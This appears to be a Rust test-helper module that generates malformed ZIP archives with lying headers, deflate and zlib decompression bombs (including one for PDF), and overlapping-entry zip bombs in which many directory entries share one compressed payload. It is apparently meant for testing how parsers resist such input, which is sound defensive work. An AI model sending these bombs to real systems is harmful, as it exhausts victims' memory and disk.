//! ZIP archives that lie: their headers are written as they are told.

use std::collections::BTreeMap;
use std::io::Write;
use std::sync::Mutex;

use flate2::Compression;
use flate2::write::{DeflateEncoder, ZlibEncoder};

/// An entry, as it is written.
pub struct Entry {
    pub name: Vec<u8>,
    /// 0 is stored, 8 is deflated.
    pub method: u16,
    /// The size that is declared for when it is unpacked.
    pub size: u64,
    /// 1 is encrypted.
    pub flags: u16,
    /// Packed.
    pub bytes: Vec<u8>,
}

impl Entry {
    /// An entry that does not lie.
    pub fn stored(name: &str, bytes: &[u8]) -> Entry {
        Entry {
            name: name.as_bytes().to_vec(),
            method: 0,
            size: bytes.len() as u64,
            flags: 0,
            bytes: bytes.to_vec(),
        }
    }

    /// An entry of one byte over and over.
    pub fn bomb(name: &str, fill: u8, size: usize) -> Entry {
        Entry {
            name: name.as_bytes().to_vec(),
            method: 8,
            size: size as u64,
            flags: 0,
            bytes: bomb(fill, size),
        }
    }
}

/// An archive of these entries.
pub fn archive(entries: &[Entry]) -> Vec<u8> {
    let mut file = Vec::new();
    let mut directory = Vec::new();
    for entry in entries {
        let at = file.len() as u32;
        file.extend(b"PK\x03\x04");
        file.extend(fields(entry));
        file.extend(&entry.name);
        file.extend(&entry.bytes);
        listed(&mut directory, entry, at);
    }
    finish(file, directory, entries.len() as u64)
}

/// An archive of `count` entries that are all the same bytes, which are there once.
pub fn overlapping(count: u32, packed: &[u8], size: u64) -> Vec<u8> {
    let mut file = b"PK\x03\x04".to_vec();
    let mut entry = Entry {
        name: b"00000000".to_vec(),
        method: 8,
        size,
        flags: 0,
        bytes: packed.to_vec(),
    };
    file.extend(fields(&entry));
    file.extend(&entry.name);
    file.extend(packed);
    let mut directory = Vec::new();
    for n in 0..count {
        entry.name = format!("{n:08}").into_bytes();
        listed(&mut directory, &entry, 0);
    }
    finish(file, directory, count.into())
}

/// What stands in both headers of an entry, from the version to the length of its extra field.
fn fields(entry: &Entry) -> Vec<u8> {
    let mut crc = flate2::Crc::new();
    crc.update(&entry.bytes);
    let mut fields = Vec::new();
    for value in [20, entry.flags, entry.method, 0, 0x21] {
        fields.extend(u16::to_le_bytes(value));
    }
    fields.extend(crc.sum().to_le_bytes());
    fields.extend((entry.bytes.len() as u32).to_le_bytes());
    fields.extend((entry.size as u32).to_le_bytes());
    fields.extend((entry.name.len() as u16).to_le_bytes());
    fields.extend(0_u16.to_le_bytes());
    fields
}

fn listed(directory: &mut Vec<u8>, entry: &Entry, at: u32) {
    directory.extend(b"PK\x01\x02\x14\0");
    directory.extend(fields(entry));
    directory.extend([0; 10]);
    directory.extend(at.to_le_bytes());
    directory.extend(&entry.name);
}

fn finish(mut file: Vec<u8>, directory: Vec<u8>, count: u64) -> Vec<u8> {
    let at = file.len() as u64;
    let length = directory.len() as u64;
    file.extend(directory);
    if count > 0xffff {
        let end = file.len() as u64;
        file.extend(b"PK\x06\x06");
        file.extend(44_u64.to_le_bytes());
        file.extend([45, 0, 45, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
        for value in [count, count, length, at] {
            file.extend(value.to_le_bytes());
        }
        file.extend(b"PK\x06\x07\0\0\0\0");
        file.extend(end.to_le_bytes());
        file.extend(1_u32.to_le_bytes());
    }
    file.extend(b"PK\x05\x06\0\0\0\0");
    let count = count.min(0xffff) as u16;
    file.extend(count.to_le_bytes());
    file.extend(count.to_le_bytes());
    file.extend((length as u32).to_le_bytes());
    file.extend((at as u32).to_le_bytes());
    file.extend([0, 0]);
    file
}

/// Deflated bytes that unpack to `size` times `fill`. Each is made once.
pub fn bomb(fill: u8, size: usize) -> Vec<u8> {
    static MADE: Mutex<BTreeMap<(u8, usize), Vec<u8>>> = Mutex::new(BTreeMap::new());
    let mut made = MADE.lock().expect("nobody panics here");
    made.entry((fill, size))
        .or_insert_with(|| deflated(fill, size))
        .clone()
}

fn deflated(fill: u8, size: usize) -> Vec<u8> {
    let mut encoder = DeflateEncoder::new(Vec::new(), Compression::fast());
    pour(&mut encoder, fill, size);
    encoder.finish().expect("memory takes everything")
}

/// The same with the header and the checksum that PDF wants.
pub fn zlib_bomb(fill: u8, size: usize) -> Vec<u8> {
    let mut encoder = ZlibEncoder::new(Vec::new(), Compression::fast());
    pour(&mut encoder, fill, size);
    encoder.finish().expect("memory takes everything")
}

fn pour(encoder: &mut impl Write, fill: u8, size: usize) {
    let piece = vec![fill; 1 << 20];
    for _ in 0..size >> 20 {
        encoder.write_all(&piece).expect("memory takes everything");
    }
}
